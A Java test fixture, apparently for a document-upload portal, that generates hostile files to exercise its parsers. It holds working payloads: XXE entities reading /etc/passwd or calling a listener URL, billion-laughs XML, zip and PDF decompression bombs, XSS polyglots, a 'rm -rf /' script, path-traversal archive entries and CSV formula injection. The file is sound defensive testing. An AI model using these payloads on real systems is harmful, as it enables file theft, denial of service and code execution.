package tw.anwang.portal.whole;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files that no program of an office writes, by the names they are sent under. */
final class HostileFiles {
    private static final String TYPES = "<?xml version=\"1.0\"?><Types xmlns="
            + "\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>";

    private static final String LAUGHS =
            "<!DOCTYPE x [<!ENTITY a \"haha\">" + "<!ENTITY b \"" + "&a;".repeat(50) + "\">"
                    + "<!ENTITY c \"" + "&b;".repeat(50) + "\">" + "<!ENTITY d \"" + "&c;".repeat(50) + "\">"
                    + "<!ENTITY e \"" + "&d;".repeat(50) + "\">" + "<!ENTITY f \"" + "&e;".repeat(50) + "\">]>";

    private static final int BOMB_MEGABYTES = 300;

    private final Map<String, byte[]> files = new LinkedHashMap<>();

    /** @param listener an address of which a test knows whether anybody asked it */
    static Map<String, byte[]> made(String listener) throws IOException {
        HostileFiles all = new HostileFiles();
        all.twoKinds();
        all.bombs();
        all.entities("laughs", LAUGHS, "&f;");
        all.entities("local", "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>", "&f;");
        all.entities(
                "remote",
                "<!DOCTYPE x SYSTEM \"" + listener + "/x.dtd\" [<!ENTITY % p SYSTEM \"" + listener
                        + "/p.dtd\"> %p; <!ENTITY f SYSTEM \"" + listener + "/f\">]>",
                "&f;");
        all.links(listener);
        all.paths();
        all.sheets();
        all.json();
        return all.files;
    }

    private void twoKinds() throws IOException {
        String page = "<html><script>alert(1)</script></html>";
        put("page.pdf", "%PDF-1.7\n" + page);
        put("page.png", "\u0089PNG\r\n\u001a\n" + page);
        put("page.txt", page);
        put("gif.png", "GIF89a/*" + page + "*/=1;");
        put("drawing.png", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>");
        put("program.pdf", "MZ\u0090\0\u0003\0\0\0" + "\0".repeat(4000));
        put("script.txt", "#!/bin/sh\nrm -rf /\n");
        put("empty.docx", "");
        byte[] zip = zip("a.html", page);
        put("both.pdf", join("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n", zip));
        put("both.docx", join("GIF89a", zip));
        // 100,000 pixels wide and high, in 60 bytes
        put(
                "wide.png",
                "\u0089PNG\r\n\u001a\n\0\0\0\rIHDR\0\u0001\u0086\u00a0\0\u0001\u0086\u00a0\b\u0006\0\0\0abcd\0\0\0\0IENDabcd");
    }

    private void bombs() throws IOException {
        put("bomb.docx", bomb("[Content_Types].xml", TYPES, "word/document.xml"));
        put("picture.docx", bomb("[Content_Types].xml", TYPES, "word/media/image1.png"));
        put("bomb.odt", bomb("mimetype", "application/vnd.oasis.opendocument.text", "content.xml"));
        put("bomb.ods", bomb("mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml"));
        put("bomb.xlsx", bomb("xl/workbook.xml", "<workbook/>", "xl/sharedStrings.xml"));
        byte[] nested = zip("a.txt", "x".repeat(1 << 20));
        for (int depth = 0; depth < 8; depth++) {
            nested = zip("a.zip", nested, "b.zip", nested, "c.docx", nested);
        }
        put("nested.zip", nested);
        byte[] packed = packed(packed(new byte[BOMB_MEGABYTES << 20]));
        put(
                "bomb.pdf",
                join(
                        "%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
                                + "2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
                                + "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>> endobj\n"
                                + "4 0 obj <</Filter[/FlateDecode/FlateDecode]/Length " + packed.length
                                + ">>\nstream\n",
                        join(packed, "\nendstream\nendobj\ntrailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF\n")));
    }

    private void entities(String name, String doctype, String used) throws IOException {
        String word =
                "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>"
                        + used + "</w:t></w:r></w:p></w:body></w:document>";
        put(name + ".docx", zip("[Content_Types].xml", TYPES, "word/document.xml", doctype + word));
        put(
                name + "Types.docx",
                zip("[Content_Types].xml", doctype + "<Types a=\"" + used + "\"/>", "word/document.xml", word));
        String open = "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><text:p>" + used
                + "</text:p></office:body></office:document-content>";
        put(name + ".odt", zip("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", doctype + open));
        put(
                name + ".ods",
                zip(
                        "mimetype",
                        "application/vnd.oasis.opendocument.spreadsheet",
                        "content.xml",
                        doctype + open,
                        "META-INF/manifest.xml",
                        doctype + "<manifest>" + used + "</manifest>"));
        put(
                name + ".xlsx",
                zip(
                        "[Content_Types].xml",
                        TYPES,
                        "xl/workbook.xml",
                        doctype + "<workbook>" + used + "</workbook>",
                        "xl/sharedStrings.xml",
                        doctype + "<sst><si><t>" + used + "</t></si></sst>"));
        put(name + ".xml", doctype + "<Bundle xmlns=\"http://hl7.org/fhir\"><id value=\"" + used + "\"/></Bundle>");
    }

    private void links(String listener) throws IOException {
        String away =
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"a\" Type="
                        + "\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\""
                        + listener
                        + "/t.dotm\" TargetMode=\"External\"/></Relationships>";
        put(
                "template.docx",
                zip(
                        "[Content_Types].xml",
                        TYPES,
                        "word/document.xml",
                        "<w:document xmlns:w=\"x\"/>",
                        "word/_rels/document.xml.rels",
                        away,
                        "word/_rels/settings.xml.rels",
                        away));
        put(
                "linked.xlsx",
                zip(
                        "[Content_Types].xml",
                        TYPES,
                        "_rels/.rels",
                        away,
                        "xl/workbook.xml",
                        "<workbook/>",
                        "xl/_rels/workbook.xml.rels",
                        away));
    }

    private void paths() throws IOException {
        String out = "../../../../../../../../tmp/anwang-hostile.txt";
        put("paths.zip", zip(out, "x", "/tmp/anwang-hostile.txt", "x", "..\\..\\tmp\\anwang-hostile.txt", "x"));
        put("paths.docx", zip("[Content_Types].xml", TYPES, "word/document.xml", "<x/>", out, "x"));
        put(
                "paths.ods",
                zip("mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml", "<x/>", out, "x"));
        put(out, "a name that leads away");
        put("..\\..\\windows\\anwang-hostile.txt", "a name that leads away");
        put("/etc/cron.d/anwang-hostile", "a name that leads away");
        put("<script>alert(1)</script>.txt", "a name that is a script");
        put("a; filename*=UTF-8''%2e%2e%2fb.txt", "a name that is two");
        put("長".repeat(3_000) + ".txt", "a name too long");
        put("a\u0007\u202etxt.exe", "a name that reads backwards");
    }

    private void sheets() {
        put("formulas.csv", "案號,姓名,電話\n=cmd|' /C calc'!A0,@SUM(1+1),+886\n-1+1,\t=1,\r=1\n");
        put("commas.csv", ",".repeat(15 << 20));
        put("quotes.csv", "\"" + "\"\"".repeat(7 << 20));
        put("lines.csv", "a\n".repeat(7 << 20));
        put("zeros.csv", "案號,姓名,電話\n\0\0\0,\0,\0\n");
    }

    private void json() {
        put("deep.json", "[{\"案號\":" + "[".repeat(200_000));
        put("number.json", "{\"total\":1e99999999999,\"data\":[{\"案號\":1e999999999}]}");
        put("row.json", "[{\"案號\":\"" + "A".repeat(30 << 20) + "\"}]");
        put("cut.json", "[");
    }

    private void put(String name, String bytes) {
        boolean single = bytes.chars().allMatch(one -> one < 256);
        files.put(name, bytes.getBytes(single ? StandardCharsets.ISO_8859_1 : StandardCharsets.UTF_8));
    }

    private void put(String name, byte[] bytes) {
        files.put(name, bytes);
    }

    private static byte[] join(Object... pieces) throws IOException {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (Object piece : pieces) {
            all.write(piece instanceof byte[] bytes ? bytes : ((String) piece).getBytes(StandardCharsets.ISO_8859_1));
        }
        return all.toByteArray();
    }

    private static byte[] zip(Object... namesAndContents) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < namesAndContents.length; i += 2) {
                zip.putNextEntry(new ZipEntry((String) namesAndContents[i]));
                Object content = namesAndContents[i + 1];
                zip.write(content instanceof byte[] raw ? raw : ((String) content).getBytes(StandardCharsets.UTF_8));
            }
        }
        return bytes.toByteArray();
    }

    private static byte[] bomb(String name, String content, String part) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.setLevel(Deflater.BEST_SPEED);
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content.getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry(part));
            byte[] zeros = new byte[1 << 20];
            for (int megabyte = 0; megabyte < BOMB_MEGABYTES; megabyte++) {
                zip.write(zeros);
            }
        }
        return bytes.toByteArray();
    }

    private static byte[] packed(byte[] content) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (OutputStream packing = new DeflaterOutputStream(bytes)) {
            packing.write(content);
        }
        return bytes.toByteArray();
    }
}
